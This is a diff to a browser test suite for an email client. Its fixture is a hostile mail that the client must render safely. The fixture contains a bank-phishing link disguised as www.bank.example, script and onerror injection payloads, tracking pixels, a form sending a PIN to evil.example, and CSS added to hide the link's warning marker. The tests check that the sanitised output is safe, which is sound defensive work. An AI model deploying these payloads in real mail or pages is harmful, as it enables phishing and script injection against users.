@@ -16,7 +16,8 @@ const html = (
   tracker: string,
 ) => `<p>Dear bank customer, <a href="https://evil.example/pay">www.bank.example</a> or <a href="https://shop.example/x">our shop</a></p>
 <script>parent.document.title = 'owned'</script><img src=x onerror="parent.document.title = 'owned'">
-<img src="${tracker}/pixel.gif"><style>@import url(${tracker}/a.css); body { background: url(${tracker}/b.png) }</style>
+<img src="${tracker}/pixel.gif"><style>@import url(${tracker}/a.css); body { background: url(${tracker}/b.png) }
+strong, .patchbay-target { display: none !important; font-size: 0 !important }</style>
 <form action="https://evil.example"><input name="pin"><button>Send</button></form><a href="javascript:parent.document.title='owned'">here</a>`;
 
 describe.skipIf(inject('chromium') === null)('a hostile mail', () => {
@@ -71,6 +72,7 @@ describe.skipIf(inject('chromium') === null)('a hostile mail', () => {
     const link = mail.locator('a[href="https://evil.example/pay"]');
     await link.waitFor();
     expect(await link.innerText()).toContain('→ evil.example');
+    expect(await link.locator('strong').isVisible()).toBe(true);
     expect(await link.getAttribute('title')).toBe('https://evil.example/pay');
     expect(await link.getAttribute('rel')).toContain('noopener');
     expect(await mail.locator('a[href="https://shop.example/x"]').innerText()).toBe('our shop');
